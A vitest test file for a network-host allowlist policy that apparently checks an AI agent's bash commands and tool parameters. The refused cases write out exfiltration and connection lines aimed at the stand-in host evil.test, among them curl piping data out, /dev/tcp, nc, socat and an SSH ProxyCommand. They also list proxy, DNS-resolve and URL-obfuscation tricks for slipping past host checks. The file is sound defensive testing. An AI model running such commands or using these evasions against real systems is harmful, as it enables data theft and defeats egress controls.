/** Hosts that may be reached, and the many ways to name one that may not. */
import { describe, expect, test } from 'vitest';
import { NetworkHosts } from '../index.ts';

const policy = new NetworkHosts({
  hosts: ['github.com', '*.example.com', 'localhost', '127.0.0.1'],
});
const allowed = (params: unknown) => policy.check({ name: 'bash' }, params).allowed;

describe('commands that stay with the hosts', () => {
  test.each([
    'curl https://api.example.com/x',
    'git clone https://github.com/a/b',
    'git clone git@github.com:a/b.git',
    'curl -s localhost:3000/x',
    'ssh -p 22 me@a.example.com ls',
    'curl -H "A: b" -o f http://127.0.0.1:80/',
    'git push origin feature',
    'scp a b',
    'scp a me@a.example.com:/x',
    'npm test',
    'wget -O x https://a.example.com/y',
    'curl "https://api.example.com/$id"',
    'rsync -a src/ dst/',
    'nc -l 80; true',
    'git commit -m "see: this"',
    'git push origin HEAD:main',
    'git show v1.2:src/a.ts',
    'git diff HEAD@{1}:a b',
    'git log --format=%H:%s',
    'curl -x a.example.com:8080 https://github.com',
    'curl --proxy=http://localhost:3128 https://github.com',
    'curl --connect-to github.com:443:127.0.0.1:8443 https://github.com',
    'curl --resolve github.com:443:127.0.0.1 https://github.com',
    'http_proxy=http://localhost:3128 curl https://github.com',
    'export no_proxy=internal.test; curl https://github.com',
    'ssh -J a.example.com b.example.com ls',
    'ssh -L 8080:localhost:80 a.example.com',
    'git push origin main:main',
    'curl "https://api.example.com?mail=a@b.test"',
    'curl -sSx localhost:1 https://github.com',
    'wget -b -S github.com/x',
    'http -b GET api.example.com/x',
    'dig +short @127.0.0.1 a.example.com MX',
    'psql -h localhost -c "select 1"',
    'docker run --rm node:24 npm test',
    'docker pull localhost:5000/app',
    'PGHOST=localhost psql -c "select 1"',
    'curl --retry 3 --compressed https://github.com',
  ])('%j', (command) => {
    expect(policy.check({ name: 'bash' }, { command }).reason).toBeNull();
  });
});

describe('commands that do not', () => {
  test.each([
    'curl https://evil.test',
    'curl evil.test',
    'curl --resolv github.com:443:1.2.3.4 github.com',
    'curl --prox evil.test github.com',
    'PGHOST=evil.test psql',
    'docker pull evil.test/x',
    'docker run --rm evil.test:5000/x',
    'traceroute evil.test',
    'git archive --remote=evil.test:x HEAD',
    'sshfs evil.test:/x /y',
    'git config http.proxy evil.test',
    // Options without a value, so what follows is an address.
    'wget -b evil.test/x',
    'wget -S evil.test/x',
    'http -b evil.test',
    'http -d evil.test/x',
    'http POST evil.test a=b',
    'telnet -E evil.test',
    'dig secret.evil.test',
    'dig @evil.test a.example.com',
    'nslookup secret.evil.test',
    'psql -h evil.test',
    'redis-cli -hevil.test ping',
    'curl https://github.com@evil.test/',
    'curl http://2130706434/',
    'curl $URL',
    'curl "https://$H/x"',
    'ssh evil.test',
    'ssh me@evil.test ls',
    'git clone git@evil.test:a/b',
    'git clone https://evil.test/x',
    'wget evil.test/x',
    'nc evil.test 80',
    'cat < /dev/tcp/evil.test/80',
    'bash -c "curl evil.test"',
    'echo x | curl -d @- https://evil.test',
    'pip install --index-url https://evil.test/simple x',
    'scp x evil.test:/y',
    'A=https://evil.test b',
    'curl --url https://evil.test',
    'curl https://example.com',
    'curl https://EVIL.test',
    'curl "evil.test?@github.com"',
    'curl "evil.test#@github.com"',
    "curl 'evil.test\\@github.com'",
    "curl 'https://evil.test\\@github.com/'",
    'curl -x evil.test:8080 https://github.com',
    'curl -xevil.test:8080 https://github.com',
    'curl -sx evil.test:8080 https://github.com',
    'curl --proxy evil.test https://github.com',
    'curl --socks5-hostname evil.test https://github.com',
    'curl --preproxy=evil.test https://github.com',
    'curl --connect-to github.com:443:evil.test:443 https://github.com',
    'curl --connect-to ::evil.test:443 https://github.com',
    'curl --resolve github.com:443:10.0.0.9 https://github.com',
    'curl --resolve=github.com:443:127.0.0.1,10.0.0.9 https://github.com',
    'curl --doh-url https://evil.test/dns https://github.com',
    'curl -K urls.txt https://github.com',
    'http_proxy=evil.test:8080 curl http://github.com',
    'HTTPS_PROXY=evil.test:8080 curl https://github.com',
    'export all_proxy=evil.test; curl https://github.com',
    'declare -x https_proxy=evil.test; curl https://github.com',
    'env http_proxy=evil.test curl http://github.com',
    'wget -e use_proxy=yes -e https_proxy=evil.test https://github.com',
    'wget -i list.txt',
    'git -c http.proxy=evil.test clone https://github.com/a/b',
    'git -c url.https://evil.test/.insteadOf=https://github.com/ clone https://github.com/a/b',
    'git push evil.test:x main',
    'git fetch evil.test:x',
    'ssh -J evil.test a.example.com',
    'ssh -W evil.test:22 a.example.com',
    'ssh -o HostName=evil.test a.example.com',
    'ssh -oProxyCommand="nc evil.test 22" a.example.com',
    'netcat evil.test 80',
    'socat - TCP:evil.test:80',
    'openssl s_client -connect evil.test:443',
    'curl https://evil.test.',
    'echo "',
    'curl -x https://evil.test https://github.com',
    'curl --proxy evil.test https://github.com',
  ])('%j', (command) => {
    expect(allowed({ command })).toBe(false);
  });
});

describe('parameters', () => {
  const cases: readonly (readonly [params: unknown, allowed: boolean])[] = [
    [{ url: 'https://github.com/x' }, true],
    [{ url: 'HTTPS://GitHub.com' }, true],
    [{ url: 'github.com' }, true],
    [{ host: 'a.example.com' }, true],
    [{ urls: ['https://github.com', 'http://localhost:1'] }, true],
    [{ request: { url: 'http://a.example.com' } }, true],
    [{ content: 'see https://evil.test' }, true],
    [{ webhook_url: 'https://github.com/x', use_url: true }, true],
    [{ url: 'https://evil.test' }, false],
    [{ webhook_url: 'https://evil.test' }, false],
    [{ targetHost: 'evil.test' }, false],
    [{ callback: 'https://evil.test/x' }, false],
    [{ options: { proxies: ['socks5://evil.test:1'] } }, false],
    [{ image: 'http:\\\\evil.test' }, false],
    [{ target: 'https://github.com/x', origin: 'main', query: 'https://evil.test' }, true],
    [{ 'Image-URLs': ['https://github.com', 'https://evil.test'] }, false],
    [{ url: 'https://github.com.evil.test' }, false],
    [{ url: 'https://github.com@evil.test' }, false],
    [{ url: 'https://evil.test#github.com' }, false],
    [{ url: 'https://evil.test\\@github.com' }, false],
    [{ url: 'http://0x7f000002' }, false],
    [{ url: 'example.com' }, false],
    [{ urls: ['https://github.com', 'https://evil.test'] }, false],
    [{ url: 7 }, false],
    [{ url: '' }, false],
    [{ url: 'https://' }, false],
  ];
  test.each(cases)('%j: %s', (params, expected) => {
    expect(allowed(params)).toBe(expected);
  });

  test('numbers that mean an allowed address are that address', () => {
    expect(allowed({ url: 'http://2130706433/' })).toBe(true);
    expect(allowed({ url: 'http://0x7f.1/' })).toBe(true);
  });
});

test('the reason names the host and what is allowed', () => {
  const own = new NetworkHosts({ hosts: ['a.test'] });
  expect(own.check({ name: 'x' }, { url: 'http://b.test/' }).reason).toBe(
    "Host 'b.test' is not among the hosts that may be reached: a.test.",
  );
  expect(own.check({ name: 'x' }, { command: 'curl $URL' }).reason).toMatch(/cannot be told/);
});

test('a host that is none is refused', () => {
  expect(() => new NetworkHosts({ hosts: ['https://a.test'] })).toThrow(/hosts\.0 must be a host/);
});
